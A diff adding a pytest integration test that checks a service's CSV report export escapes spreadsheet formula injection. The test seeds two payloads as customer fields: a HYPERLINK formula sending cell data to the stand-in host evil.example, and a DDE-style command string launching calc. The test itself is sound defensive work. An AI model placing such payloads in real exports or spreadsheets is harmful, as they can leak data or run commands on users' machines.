@@ -11,6 +11,8 @@ import pytest
 from fastapi.testclient import TestClient
 
 from domain.facts import ReportedFact
+from projections import replay
+from service import bootstrap
 from tests.events import NOW
 from tests.integration.conftest import Desk
 
@@ -221,3 +223,26 @@ def test_the_openapi_document_names_the_path_parameters_plainly(desk: Desk) -> N
     assert {"$ref": "#/components/schemas/CloudEvent"} in body["anyOf"]
     schemas = desk.client.get("/openapi.json").json()["components"]["schemas"]
     assert "subject" in schemas["CloudEvent"]["properties"]
+
+
+# --- CSV ---------------------------------------------------------------------------------------
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_escaped(desk: Desk) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    desk.record(opened("C-1", "Eve", acquisition_channel=formula),
+                opened("C-2", "Adam", acquisition_channel="@SUM(1+1)*cmd|' /C calc'!A0"),
+                *(ReportedFact(f"o-{c}", "crm.order.placed", "tests", c, NOW - timedelta(days=1),
+                               {"order_id": "O-1", "amount": "25.00", "currency": "EUR",
+                                "items": []}) for c in ("C-1", "C-2")))
+    catalog = bootstrap.build_catalog(desk.settings, desk.history, desk.views)
+    assert replay.replay(catalog, "lifetime_value_by_channel").state == "swapped"
+    as_json = desk.client.get("/reports/lifetime_value_by_channel").json()
+    assert formula in [row["channel"] for row in as_json["rows"]]  # JSON keeps the value as is
+
+    lines = desk.client.get("/reports/lifetime_value_by_channel?format=csv").text.splitlines()
+    cells = [line.split(",")[0] for line in lines[1:]]
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1' in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))]
+    eve = next(line for line in lines if "HYPERLINK" in line)
+    assert eve.endswith(",1,25.00,25.00")  # numbers stay numbers
